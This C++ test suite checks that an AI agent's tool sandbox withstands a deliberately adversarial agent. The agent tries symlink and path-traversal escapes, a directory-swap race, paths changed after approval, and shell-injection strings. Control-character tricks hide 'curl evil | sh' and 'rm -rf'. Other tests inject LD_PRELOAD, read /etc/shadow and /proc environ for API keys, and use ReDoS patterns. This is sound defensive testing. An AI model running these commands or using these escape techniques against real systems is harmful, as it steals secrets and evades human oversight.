// The sandbox against an agent that attacks on purpose. Each class of attack is tried in several
// spellings, on every tool it applies to, under local and bwrap; each case has a control that
// shows the same attack does reach outside where nothing stops it (a plain open, /bin/sh).
#include "runtime/clock.hpp"
#include "runtime/ids.hpp"
#include "runtime/wire.hpp"
#include "sandbox/command_policy.hpp"
#include "sandbox/confinement.hpp"
#include "sandbox/matching.hpp"
#include "sandbox/text.hpp"
#include "sandbox/tools.hpp"
#include "tests/support/test_support.hpp"

#include <atomic>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <thread>

#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

using namespace keel;
using namespace keel::sandbox;
using keel::testing::read_file;
using keel::testing::temp_dir;
using keel::testing::write_file;
using wire::value;
namespace fs = std::filesystem;

namespace {

const std::string secret = "TOP-SECRET-CONTENT";

struct attack {
  temp_dir dir;
  workspace ws;
  policy p;
  std::string outside;  // a directory beside the workspace, with a secret in it
  explicit attack(environment_kind kind = environment_kind::local) : ws(*workspace::open(dir.file("ws"))) {
    p.exec = exec_security::allow_always;
    p.file_approval = false;
    p.outside = outside_access::deny;
    p.env.kind = kind;
    keel::testing::give_to_sandbox(ws.root());  // as keel gives a workspace it made
    outside = dir.file("outside");
    fs::create_directories(outside);
    write_file(outside + "/secret", secret);
  }
  tool_outcome call(const std::string& tool, value arguments, bool approved = false, value form = {}) {
    tool_request request;
    request.tool = tool;
    request.arguments = std::move(arguments);
    request.approved = approved;
    request.approved_form = std::move(form);
    request.task_id = "adversary";
    return run_tool(ws, p, request);
  }
  std::string in_ws(const std::string& name) const { return ws.root() + "/" + name; }
};

// Whatever a tool returned, as text: the secret must never be in it.
std::string everything(const tool_outcome& o) { return o.result.dump() + o.form.dump() + o.message; }

bool reached_outside(const tool_outcome& o) { return everything(o).find(secret) != std::string::npos; }

// What a plain open of the same path from the workspace reads (the control).
std::string plain_read(const attack& a, const std::string& path) {
  std::ifstream in(path[0] == '/' ? path : a.in_ws(path));
  return std::string(std::istreambuf_iterator<char>(in), {});
}

std::string shell(const std::string& command, const std::string& cwd) {
  std::string full = "cd '" + cwd + "' && /bin/sh -c '" + command + "' >/dev/null 2>&1";
  return std::to_string(std::system(full.c_str()));
}

} // namespace

TEST_CASE("adversary, paths as text: every spelling that leads out is refused by every tool", "[sandbox][adversary]") {
  attack a;
  fs::create_symlink(a.outside, a.in_ws("link"));                       // a symlink that points out
  fs::create_symlink("../outside/secret", a.in_ws("rel"));               // relative, climbing
  fs::create_symlink(a.in_ws("chain2"), a.in_ws("chain1"));              // a chain that ends outside
  fs::create_symlink(a.outside + "/secret", a.in_ws("chain2"));
  fs::create_symlink("loop2", a.in_ws("loop1"));                         // a loop
  fs::create_symlink("loop1", a.in_ws("loop2"));
  write_file(a.in_ws("file.txt"), "inside");
  fs::create_directories(a.in_ws("d"));
  std::vector<std::string> paths = {
    "nope/../link/secret", "link/secret", "rel", "chain1", "../outside/secret", "d/../../outside/secret",
    "./../outside/secret", a.outside + "/secret", "//" + a.outside.substr(1) + "/secret",
    a.ws.root() + "/../outside/secret", "file.txt/../link/secret", "loop1", "link/../outside/secret",
    "d/./../link/./secret"};
  paths.push_back(std::string(300, 'x').append("/../link/secret"));
  for (const auto& path : paths) {
    INFO(path);
    for (const char* tool : {"read", "edit", "write"}) {
      value args{{"path", path}, {"content", "planted"}, {"old_text", "TOP"}, {"new_text", "X"}};
      auto o = a.call(tool, args);
      CHECK_FALSE(reached_outside(o));
      CHECK((o.kind == outcome_kind::refused || o.is_error));
    }
    for (const char* tool : {"glob", "grep", "exec"}) {
      value args{{"cwd", path}, {"pattern", "*"}, {"command", "cat secret; cat ../secret"}};
      auto o = a.call(tool, args);
      CHECK_FALSE(reached_outside(o));
      CHECK((o.kind == outcome_kind::refused || o.is_error));
    }
    CHECK(read_file(a.outside + "/secret") == secret);  // nothing written or edited outside
  }
  // The control: opened as text by name, these spellings do reach the secret.
  for (const auto& path : {"link/secret", "rel", "chain1", "../outside/secret", "link/../outside/secret"})
    CHECK(plain_read(a, path) == secret);
  // A name longer than NAME_MAX and a loop are errors the model can read, not crashes.
  CHECK(a.call("read", {{"path", std::string(4000, 'n')}}).is_error);
  CHECK(a.call("read", {{"path", "loop1"}}).result["error"].get<std::string>().find("symbolic links") != std::string::npos);
  CHECK(a.call("read", {{"path", std::string("a\0b", 3)}}).result["error"].get<std::string>().find("NUL") != std::string::npos);
}

TEST_CASE("adversary, paths as text: under approve, the form shows where a path really leads", "[sandbox][adversary]") {
  attack a;
  a.p.outside = outside_access::approve;
  fs::create_symlink(a.outside, a.in_ws("link"));
  for (const char* path : {"link/secret", "../outside/secret"}) {
    auto o = a.call("read", {{"path", path}});
    REQUIRE(o.kind == outcome_kind::needs_approval);
    CHECK(o.form["context"]["path"] == fs::canonical(a.outside).string() + "/secret");
  }
  // A missing part makes the path name nothing at all: the kernel says so.
  auto missing = a.call("read", {{"path", "nope/../link/secret"}});
  CHECK(missing.is_error);
  CHECK_FALSE(reached_outside(missing));
}

TEST_CASE("adversary, check then use: a directory swapped for a symlink in a loop never leads out", "[sandbox][adversary]") {
  attack a;
  fs::create_directories(a.in_ws("real"));
  write_file(a.in_ws("real/secret"), "inside");
  fs::create_symlink(a.outside, a.in_ws("swap-link"));
  fs::create_directories(a.in_ws("d"));
  write_file(a.in_ws("d/secret"), "inside");
  std::atomic<bool> stop{false};
  // Swaps d between a real directory and a symlink to outside, atomically, as fast as it can.
  // Swaps d between a real directory and a symlink to outside, atomically (RENAME_EXCHANGE: d
  // always exists), as fast as it can.
  std::thread swapper([&] {
    std::string d = a.in_ws("d"), link = a.in_ws("swap-link");
    while (!stop) {
      ::renameat2(AT_FDCWD, d.c_str(), AT_FDCWD, link.c_str(), RENAME_EXCHANGE);
      for (int k = 0; k < 20; ++k) std::this_thread::yield();
    }
  });
  const int rounds = 3000;
  for (int i = 0; i < rounds; ++i) {
    CHECK_FALSE(reached_outside(a.call("read", {{"path", "d/secret"}})));
    if (i % 3 == 0) a.call("write", {{"path", "d/planted"}, {"content", "x"}});
    if (i % 5 == 0) CHECK_FALSE(reached_outside(a.call("grep", {{"pattern", "TOP"}, {"cwd", "d"}})));
    if (i % 5 == 1) CHECK_FALSE(reached_outside(a.call("grep", {{"pattern", "TOP"}})));
    if (i % 5 == 2) CHECK_FALSE(reached_outside(a.call("glob", {{"pattern", "**/secret"}, {"cwd", "d"}})));
    if (i % 100 == 3) CHECK_FALSE(reached_outside(a.call("exec", {{"command", "cat secret"}, {"cwd", "d"}})));
  }
  // The control: a plain open by name in the same race, until it reads the secret (bounded).
  int control_escapes = 0, control_reads = 0;
  for (auto until = steady_ms() + 20'000; control_escapes == 0 && steady_ms() < until; ++control_reads)
    if (plain_read(a, "d/secret") == secret) ++control_escapes;
  stop = true;
  swapper.join();
  CHECK_FALSE(fs::exists(a.outside + "/planted"));
  CHECK(read_file(a.outside + "/secret") == secret);
  INFO("the control read the secret after " << control_reads << " plain reads");
  CHECK(control_escapes > 0);  // the race is real: a plain open by name does reach outside
}

TEST_CASE("adversary, approved means re-resolved: a path that changes after approval is not acted on", "[sandbox][adversary]") {
  attack a;
  a.p.file_approval = true;
  a.p.outside = outside_access::deny;
  fs::create_directories(a.in_ws("d"));
  auto asked = a.call("write", {{"path", "d/x"}, {"content", "y"}});
  REQUIRE(asked.kind == outcome_kind::needs_approval);
  auto form = asked.form["context"];
  // The parent becomes a symlink to outside before the approved call runs.
  fs::rename(a.in_ws("d"), a.in_ws("d-old"));
  fs::create_symlink(a.outside, a.in_ws("d"));
  auto approved = a.call("write", {{"path", "d/x"}, {"content", "y"}}, true, form);
  CHECK((approved.kind == outcome_kind::refused || approved.is_error));
  CHECK_FALSE(fs::exists(a.outside + "/x"));
  // Under approve, an outside read approved for one target refuses when it now leads elsewhere.
  a.p.outside = outside_access::approve;
  write_file(a.outside + "/other", "OTHER");
  fs::create_symlink(a.outside + "/other", a.in_ws("moving"));
  auto outside_ask = a.call("read", {{"path", "moving"}});
  REQUIRE(outside_ask.kind == outcome_kind::needs_approval);
  auto outside_form = outside_ask.form["context"];
  fs::remove(a.in_ws("moving"));
  fs::create_symlink(a.outside + "/secret", a.in_ws("moving"));
  auto moved = a.call("read", {{"path", "moving"}}, true, outside_form);
  CHECK(moved.kind == outcome_kind::refused);
  CHECK_FALSE(reached_outside(moved));
  // Approved as shown, it reads what the form named.
  auto same = a.call("read", {{"path", "moving"}});
  CHECK(a.call("read", {{"path", "moving"}}, true, same.form["context"]).result["content"].get<std::string>().find(secret) != std::string::npos);
  // An edit whose file changed after approval is not applied: the person approved another diff.
  write_file(a.in_ws("e.txt"), "alpha\n");
  a.p.file_approval = true;
  auto edit_ask = a.call("edit", {{"path", "e.txt"}, {"old_text", "alpha"}, {"new_text", "beta"}});
  REQUIRE(edit_ask.kind == outcome_kind::needs_approval);
  write_file(a.in_ws("e.txt"), "alpha\nrm -rf /\n");
  auto edit = a.call("edit", {{"path", "e.txt"}, {"old_text", "alpha"}, {"new_text", "beta"}}, true, edit_ask.form["context"]);
  CHECK(edit.kind == outcome_kind::refused);
  CHECK(read_file(a.in_ws("e.txt")) == "alpha\nrm -rf /\n");
}

TEST_CASE("adversary, predictable temp files: planted symlinks and FIFOs neither redirect nor hang a write", "[sandbox][adversary]") {
  attack a;
  write_file(a.in_ws("target.txt"), "old");
  // Every name an older scheme would have used, planted as symlinks to the secret and as FIFOs.
  for (int pid : {static_cast<int>(::getpid()), 1, 2, 100})
    fs::create_symlink(a.outside + "/secret", a.in_ws("target.txt.keel-tmp-" + std::to_string(pid)));
  ::mkfifo(a.in_ws("target.txt.keel-tmp").c_str(), 0644);
  ::mkfifo(a.in_ws(".keel-write-0000000000000000").c_str(), 0644);
  auto w = a.call("write", {{"path", "target.txt"}, {"content", "new"}});
  CHECK_FALSE(w.is_error);
  CHECK(read_file(a.in_ws("target.txt")) == "new");
  CHECK(read_file(a.outside + "/secret") == secret);
  // The target itself a symlink to outside: refused, the secret untouched.
  fs::create_symlink(a.outside + "/secret", a.in_ws("victim"));
  auto through = a.call("write", {{"path", "victim"}, {"content", "owned"}});
  CHECK(through.kind == outcome_kind::refused);
  CHECK(read_file(a.outside + "/secret") == secret);
  // A FIFO as the target: replaced, not opened (no hang); read and grep refuse it at once.
  ::mkfifo(a.in_ws("fifo").c_str(), 0644);
  CHECK(a.call("read", {{"path", "fifo"}}).is_error);
  CHECK_FALSE(a.call("grep", {{"pattern", "x"}}).is_error);
  CHECK_FALSE(a.call("write", {{"path", "fifo"}, {"content", "x"}}).is_error);
  CHECK(read_file(a.in_ws("fifo")) == "x");
  // Nothing of the temporary files is left behind.
  for (const auto& e : fs::directory_iterator(a.ws.root()))
    CHECK((e.path().filename().string().rfind(".keel-write-", 0) != 0 || fs::is_fifo(e.path())));
}

TEST_CASE("adversary, shell syntax: allowlists and remembered approvals match no compound command", "[sandbox][adversary]") {
  attack a;
  a.p.exec = exec_security::allowlist;
  a.p.allowlist = {"ls *", "echo *", "git status", "ls"};
  std::vector<std::string> attacks = {
    "ls ; touch m1", "ls && touch m1", "ls || touch m1", "ls $(touch m1)", "ls `touch m1`",
    "ls\ntouch m1", "ls | touch m1", "ls > m1", "ls < /etc/passwd", "ls & touch m1",
    "echo x;touch m1", "ls \"$(touch m1)\"", "ls 'a'; touch m1", "echo ${PATH}", "ls\ttouch",
    "ls *; touch m1", "ls\r\ntouch m1", "echo $((1+1))", "ls #", "ls !(x)", "ls ~root"};
  for (const auto& command : attacks) {
    INFO(command);
    auto o = a.call("exec", {{"command", command}});
    CHECK(o.kind == outcome_kind::needs_approval);
    CHECK_FALSE(fs::exists(a.in_ws("m1")));
    CHECK_FALSE(is_simple_command(command));
  }
  // The control: the same strings do run a second command in a shell.
  shell("ls ; touch m1", a.ws.root());
  CHECK(fs::exists(a.in_ws("m1")));
  fs::remove(a.in_ws("m1"));
  // Simple commands still match.
  CHECK(a.call("exec", {{"command", "ls -la"}}).kind == outcome_kind::done);
  CHECK(a.call("exec", {{"command", "echo hello"}}).kind == outcome_kind::done);
  // An exact remembered approval of "ls *.js" allows that command only.
  a.p.exec = exec_security::approval_always;
  tool_request r;
  r.tool = "exec";
  r.allow_rules = {{allow_kind::exact, "ls *.js"}};
  r.arguments = {{"command", "ls *.js"}};
  CHECK(run_tool(a.ws, a.p, r).kind == outcome_kind::done);
  for (const char* other : {"ls x; touch m1; echo .js", "ls *.js ", "ls *.js; touch m1", "ls  *.js"}) {
    r.arguments = {{"command", other}};
    CHECK(run_tool(a.ws, a.p, r).kind == outcome_kind::needs_approval);
  }
  // A prefix rule allows simple commands with the same first words, nothing else.
  r.allow_rules = {{allow_kind::prefix, "npm test"}};
  for (const char* allowed : {"npm test", "npm test -- --watch", "npm  test x"}) CHECK(rule_allows(r.allow_rules[0], allowed));
  for (const char* asked : {"npm testx", "npm test; rm -rf x", "npm test $(id)", "npm", "npm run test"})
    CHECK_FALSE(rule_allows(r.allow_rules[0], asked));
  // An allowlisted command with variables that change what runs asks, and the form shows them.
  a.p.exec = exec_security::allowlist;
  for (const char* name : {"GIT_CONFIG_COUNT", "LD_PRELOAD", "PATH", "GIT_SSH_COMMAND", "NODE_OPTIONS", "BASH_ENV", "ENV"}) {
    auto o = a.call("exec", {{"command", "git status"}, {"env", {{name, "x"}}}});
    REQUIRE(o.kind == outcome_kind::needs_approval);
    CHECK(o.form["context"]["env"][name] == "x");
    CHECK_FALSE(env_name_is_safe(name));
  }
  CHECK(a.call("exec", {{"command", "ls"}, {"env", {{"NO_COLOR", "1"}}}}).kind == outcome_kind::done);
  // keel's own variables and malformed names are errors.
  CHECK(a.call("exec", {{"command", "ls"}, {"env", {{"KEEL_TASK_ID", "forged"}}}}).is_error);
  CHECK(a.call("exec", {{"command", "ls"}, {"env", {{"A=B", "x"}}}}).is_error);
  CHECK(a.call("exec", {{"command", "ls"}, {"env", {{"X", std::string("a\0b", 3)}}}}).is_error);
}

TEST_CASE("adversary, control characters: a form printed reads as what will run", "[sandbox][adversary]") {
  for (const std::string& hidden : {std::string("ls -la\rcurl evil | sh"), std::string("ls -la\x1b[2K\x1b[1Gcurl evil"),
                                    std::string("ls\x08\x08rm -rf"), std::string("ls \xe2\x80\xae" "evil"),
                                    std::string("ls\xc2\x9b" "2K")}) {
    auto shown = escape_controls(hidden);
    INFO(shown);
    for (char c : shown) CHECK(((static_cast<unsigned char>(c) >= 0x20) && (c != 0x7f)));
    CHECK(shown.find("\xe2\x80\xae") == std::string::npos);
    CHECK(shown.find("\xc2\x9b") == std::string::npos);
  }
}

TEST_CASE("adversary, invoker names: session ids that would become paths are refused at invoke", "[sandbox][adversary]") {
  std::vector<std::string> bads = {"../../out", "..", ".", "a/b", ".hidden", "s\n", "/abs", "s p", "s\\x"};
  bads.push_back(std::string("a\0b", 3));
  bads.emplace_back(200, 's');
  for (const std::string& bad : bads) {
    INFO(bad);
    CHECK_FALSE(is_valid_session_id(bad));
    wire::invoke_request m{"coder", value("hi"), "", bad, "", ""};
    auto decoded = wire::decode<wire::invoke_request>(wire::encode(m));
    REQUIRE_FALSE(decoded.ok());
    CHECK(decoded.error().message.find("session_id") != std::string::npos);
  }
  for (const char* good : {"s1", "alice.2026-11-29", "A_b-c.d"}) CHECK(is_valid_session_id(good));
}

TEST_CASE("adversary, unbounded work: grep and glob end within their limits whatever the input", "[sandbox][adversary]") {
  attack a;
  std::string long_lines(30'000, 'a');
  long_lines.push_back('\n');
  long_lines.append(10 << 20, 'a');
  write_file(a.in_ws("long.txt"), long_lines);
  for (const char* pattern : {"(a*)*b", "(a|aa)*c", "(a+)+$x", "^(a?){30}a{30}$", "(.*)*(.*)*(.*)*z"}) {
    INFO(pattern);
    auto o = a.call("grep", {{"pattern", pattern}});
    CHECK_FALSE(o.is_error);
    CHECK(o.result["count"] == 0);
  }
  // Patterns that would exhaust a recursive engine's stack get an error.
  std::string nested(4000, '(');
  nested.append(4000, ')');
  auto deep = a.call("grep", {{"pattern", nested}});
  CHECK(deep.is_error);
  CHECK(a.call("grep", {{"pattern", std::string(100'000, 'a')}}).is_error);  // too long
  // Output is capped, saying so.
  std::string line(1000, 'x');
  line.push_back('\n');
  for (int i = 0; i < 200; ++i) write_file(a.in_ws("many/f" + std::to_string(i)), line);
  a.p.output_chars_max = 10'000;
  auto big = a.call("grep", {{"pattern", "x"}, {"max_results", 10'000}});
  CHECK(big.result["matches"].get<std::string>().size() <= 10'000);
  CHECK(big.result["truncated"] == true);
  CHECK(big.result.contains("note"));
  // Walks stop at their bound on entries and on time, and say why.
  a.p.walk_entries_max = 100;
  auto walked = a.call("glob", {{"pattern", "**"}});
  CHECK(walked.result["truncated"] == true);
  CHECK(walked.result["note"].get<std::string>().find("entries") != std::string::npos);
  a.p.walk_entries_max = 100'000;
  // 32 MB to search cannot be done in 1 ms on any machine: the search stops at its time limit.
  std::string megabyte(1 << 20, 'x');
  for (int i = 0; i < 32; ++i) write_file(a.in_ws("big/f" + std::to_string(i)), megabyte);
  a.p.tool_timeout_ms = 1;
  auto timed = a.call("grep", {{"pattern", "(x+x+)+y"}, {"path", "big"}});
  CHECK(timed.result["truncated"] == true);
  CHECK(timed.result.value("note", std::string{}).find("time limit") != std::string::npos);
  // Glob patterns of many stars match in linear time.
  a.p.tool_timeout_ms = 30'000;
  std::string many_stars(2000, '*');
  many_stars += "z";
  auto stars = a.call("glob", {{"pattern", many_stars}});
  CHECK_FALSE(stars.is_error);
  std::string star_pattern(5000, '*');
  star_pattern += "b";
  CHECK_FALSE(wildcard_match(star_pattern, std::string(5000, 'a')));
}

TEST_CASE("adversary, per-call totals: memory and bytes written across all processes of a call", "[sandbox][adversary]") {
  attack a;
  a.p.env.limits.memory_bytes_max = 128 << 20;
  a.p.env.limits.written_bytes_max = 8 << 20;
  // Four processes of 48 MiB each fit their own address space limit, not the call's memory.
  auto memory = a.call("exec", {{"command", "for i in 1 2 3 4; do head -c 60M /dev/zero | tail -c 48M >/dev/null & done; wait"}});
  if (memory.result.contains("killed_by")) CHECK(memory.result["killed_by"] == "memory_bytes_max");
  else WARN("no memory cgroup here: the call's memory is bounded per process only");
  // Four writers of 4 MiB each: the call's total passes 8 MiB and the call is killed.
  auto written = a.call("exec", {{"command", "for i in 1 2 3 4; do head -c 4M /dev/zero > f$i & done; wait; sync; sleep 5"}});
  if (written.result["written_bytes"].get<std::int64_t>() > 0) {
    CHECK(written.result["killed_by"] == "written_bytes_max");
    CHECK(written.result["duration_ms"].get<std::int64_t>() < 5000);
  } else {
    WARN("no I/O accounting here: bytes written are bounded per file only");
  }
}

TEST_CASE("adversary, local mode: writes, signals and the node's secrets stay out of reach", "[sandbox][adversary]") {
  attack a;
  ::setenv("KEEL_TEST_API_KEY", "sk-should-never-be-seen", 1);
  auto env = a.call("exec", {{"command", "env; cat /proc/$PPID/environ 2>&1 | tr '\\\\0' '\\\\n'"}});
  CHECK(env.result["stdout"].get<std::string>().find("sk-should-never-be-seen") == std::string::npos);
  CHECK(std::string(std::getenv("KEEL_TEST_API_KEY")) == "sk-should-never-be-seen");  // control
  auto pid = std::to_string(::getpid());
  auto reach = a.call("exec", {{"command", "touch " + a.outside + "/planted; echo x >> " + a.outside +
                                             "/secret; kill -0 " + pid + " && echo SIGNALLED; cat /proc/" + pid +
                                             "/environ | grep -c sk-should; grep CapEff /proc/self/status"}});
  auto out = reach.result["stdout"].get<std::string>();
  CHECK_FALSE(fs::exists(a.outside + "/planted"));
  CHECK(read_file(a.outside + "/secret") == secret);
  CHECK(out.find("sk-should") == std::string::npos);
  CHECK(out.find("CapEff:\t0000000000000000") != std::string::npos);
  if (landlock_abi() >= 6) CHECK(out.find("SIGNALLED") == std::string::npos);  // signal scoping
  // Control: the same commands outside the sandbox do reach.
  shell("touch " + a.outside + "/planted", a.ws.root());
  CHECK(fs::exists(a.outside + "/planted"));
  // Mount, ptrace and new namespaces are refused.
  auto kernel = a.call("exec", {{"command", "mount -t tmpfs x /mnt 2>&1; unshare -U true 2>&1 || echo NOUNSHARE"}});
  CHECK(kernel.result["stdout"].get<std::string>().find("NOUNSHARE") != std::string::npos);
  // Temporary files go to the call's own directory, which is gone afterwards.
  auto tmp = a.call("exec", {{"command", "echo $TMPDIR; touch $TMPDIR/t && echo MADE"}});
  auto tmp_dir = tmp.result["stdout"].get<std::string>();
  CHECK(tmp_dir.find("MADE") != std::string::npos);
  CHECK_FALSE(fs::exists(tmp_dir.substr(0, tmp_dir.find('\n'))));
}

TEST_CASE("adversary, bwrap: no privileges inside, the environment applies inside only", "[sandbox][adversary][bwrap]") {
  if (!bwrap_available(*command_identity(sandbox_account))) {
    WARN("bubblewrap cannot run here");
    return;
  }
  attack a(environment_kind::bwrap);
  ::setenv("KEEL_TEST_API_KEY", "sk-should-never-be-seen", 1);
  auto o = a.call("exec", {{"command", "id -u; grep CapEff /proc/self/status; mount -o remount,bind,rw /etc 2>&1; "
                                        "touch /etc/planted 2>&1; unshare -U true 2>&1; cat /etc/shadow 2>&1; "
                                        "env; tr '\\\\0' '\\\\n' < /proc/1/environ"},
                           {"env", {{"LD_PRELOAD", "/nonexistent/evil.so"}}}},
                  true);
  auto out = o.result["stdout"].get<std::string>() + o.result["stderr"].get<std::string>();
  INFO(out);
  CHECK(out.rfind("1000\n", 0) == 0);
  CHECK(out.find("CapEff:\t0000000000000000") != std::string::npos);
  CHECK_FALSE(fs::exists("/etc/planted"));
  CHECK(out.find("root:") == std::string::npos);  // no shadow file inside
  CHECK(out.find("sk-should-never-be-seen") == std::string::npos);
  CHECK(out.find("LD_PRELOAD=/nonexistent/evil.so") != std::string::npos);  // the command's own
  // bwrap's own process (pid 1 inside) was started without it.
  auto init = a.call("exec", {{"command", "tr '\\\\0' '\\\\n' < /proc/1/environ"}, {"env", {{"LD_PRELOAD", "/x.so"}}}}, true);
  CHECK(init.result["stdout"].get<std::string>().find("LD_PRELOAD") == std::string::npos);
  // A read outside through a symlink made inside leads to the sandbox's own view, not the host's.
  fs::create_symlink(a.outside + "/secret", a.in_ws("peek"));
  CHECK_FALSE(reached_outside(a.call("exec", {{"command", "cat peek; cat " + a.outside + "/secret"}})));
  CHECK(plain_read(a, "peek") == secret);  // control
}

// Found by the matching fuzzer: a star in the pattern met a star in the text and was taken as
// that literal character, so it could not stretch over what followed ("rm *" did not match
// "rm *.tmp"). Every variant: stars in the text at the start, the middle, the end, in a row.
TEST_CASE("wildcards: a star matches text that has stars in it", "[sandbox][matching]") {
  using keel::sandbox::wildcard_match;
  CHECK(wildcard_match("*", "*x"));
  CHECK(wildcard_match("*", "**"));
  CHECK(wildcard_match("*", "*"));
  CHECK(wildcard_match("rm *", "rm *.tmp"));
  CHECK(wildcard_match("rm *.tmp", "rm *.tmp"));
  CHECK(wildcard_match("a*b", "a*b*b"));
  CHECK(wildcard_match("?*", "*"));
  CHECK(wildcard_match("*x", "**x"));
  CHECK(wildcard_match("git * --force", "git push * --force"));
  // What must not match still does not.
  CHECK_FALSE(wildcard_match("rm *.tmp", "rm *.tm"));
  CHECK_FALSE(wildcard_match("a*b", "a*c"));
  CHECK_FALSE(wildcard_match("*x", "*y"));
}
